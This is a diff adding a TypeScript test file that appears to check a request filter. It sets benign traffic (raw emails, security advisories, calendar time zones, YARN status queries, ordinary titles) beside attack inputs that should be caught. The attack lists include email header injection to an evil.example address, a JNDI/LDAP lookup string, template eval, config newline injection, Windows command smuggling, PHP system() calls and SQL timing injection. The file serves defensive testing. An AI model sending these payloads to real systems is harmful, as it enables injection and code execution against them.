@@ -1,0 +1,107 @@
+import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'
+
+const MAIL = [
+  'From: Shop <shop@example.com>',
+  'To: ann@example.com',
+  'Subject: Your order',
+  'MIME-Version: 1.0',
+  'Content-Type: multipart/alternative; boundary="b1"',
+  '',
+  '--b1',
+  'Content-Type: text/html; charset=utf-8',
+  '',
+  '<p>Thanks</p>',
+  '--b1--',
+  '',
+].join('\r\n')
+const PACKED = Buffer.from(MAIL).toString('base64')
+
+const ZONE = 'BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VTIMEZONE\nTZID:Europe/Prague\nEND:VTIMEZONE\nEND:VCALENDAR'
+const QUOTED = '### Impact\nA template such as `${eval(name)}` runs in the page.'
+
+function dav(name: string, value: string): ReturnType<typeof posted> {
+  return posted('application/xml', `<a xmlns="DAV:"><set><prop><${name}>${value}</${name}></prop></set></a>`)
+}
+
+/** Kinds of what products send each other, and what stays an attack beside each. */
+const KINDS: HonestKinds = {
+  'whole mails, as Amazon SES, SparkPost and Exchange take and send them': {
+    honest: [
+      filled({ Action: 'SendRawEmail', 'RawMessage.Data': PACKED }),
+      sent({ Content: { Raw: { Data: PACKED } } }),
+      sent({ RawMessage: { Data: PACKED } }),
+      sent([{ msys: { relay_message: { content: { email_rfc822: MAIL } } } }]),
+      sent({ mimeContent: PACKED }),
+      posted(
+        'text/xml',
+        `<m xmlns:t="urn:t"><t:MimeContent CharacterSet="UTF-8">${PACKED}</t:MimeContent></m>`,
+      ),
+    ],
+    attacks: [
+      filled({ email: 'x\r\nBcc: all@evil.example' }),
+      filled({ data: PACKED }),
+      sent({ Content: { Raw: { Data: Buffer.from('${jndi:ldap://evil.example/a}').toString('base64') } } }),
+      sent({ data: '\r\nBcc: all@evil.example' }),
+    ],
+  },
+  'advisories that quote an attack': {
+    honest: [
+      sent({ action: 'published', security_advisory: { summary: 'XSS', description: QUOTED } }),
+      sent({ alert: { security_advisory: { description: QUOTED } } }),
+      sent({ repository_advisory: { description: QUOTED } }),
+    ],
+    attacks: [
+      sent({ security_advisory: { description: '${jndi:ldap://evil.example/a}' } }),
+      sent({ advisory: { name: '`${eval(name)}`' } }),
+      filled({ 'security_advisory.description': '`${eval(name)}`' }),
+    ],
+  },
+  'the time zone of a calendar': {
+    honest: [dav('c:calendar-timezone', ZONE), dav('calendar-timezone', ZONE)],
+    attacks: [filled({ timezone: 'UTC\nServerAlias: x' }), sent({ timezone: 'UTC\nServerAlias: x' })],
+  },
+  'what runs on YARN': {
+    honest: [
+      asked('/ws/v1/cluster/apps/application_1462754318084_0071/state', {}),
+      asked('/ws/v1/cluster/apps/application_1462754318084_0071/appattempts', {}),
+    ],
+    attacks: [
+      posted('application/json', '', '/ws/v1/cluster/apps/new-application'),
+      posted('application/json', '{"application-id":"a"}', '/ws/v1/cluster/apps'),
+      posted('application/json', '{"application-id":"a"}', '/ws/v1/cluster/apps/'),
+    ],
+  },
+  'words that begin as a command of Windows does': {
+    honest: [
+      asked('/search', { q: 'If defined in the intent, Amazon Lex invokes this function' }),
+      filled({ title: 'If defined in Appendix A, it applies' }),
+      filled({ title: 'If not defined by the host, nothing happens' }),
+    ],
+    attacks: [
+      filled({ title: 'if defined PATH calc' }),
+      filled({ title: 'if not defined in calc' }),
+      filled({ title: 'IF NOT DEFINED by  calc.exe' }),
+      filled({ title: 'if not defined in the & whoami' }),
+    ],
+  },
+  'functions that somebody added, wildcards of Java, names of packages, years': {
+    honest: [
+      asked('/search', { q: 'Introduced a new function (`tjGetErrorStr2()`) in the API' }),
+      filled({ title: 'List<? extends T> or List<? super T>' }),
+      filled({ title: 'libxmu6{,-dbg} and libfontenc1{,-dbg} need no x11-common' }),
+      filled({ title: 'Two reports; benchmark (2026)' }),
+    ],
+    attacks: [
+      filled({ title: 'new Function ("x")' }),
+      filled({ title: 'x of new Function (atob(a))' }),
+      filled({ title: '<? system($a) ?>' }),
+      filled({ title: '<? super or system($a) ?>' }),
+      filled({ title: '<? super .system($a) ?>' }),
+      filled({ title: 'ls{,-lh}' }),
+      filled({ title: 'x{l,-lh}s' }),
+      filled({ title: '1;benchmark(2026,md5(1))' }),
+    ],
+  },
+}
+
+testKinds(KINDS)
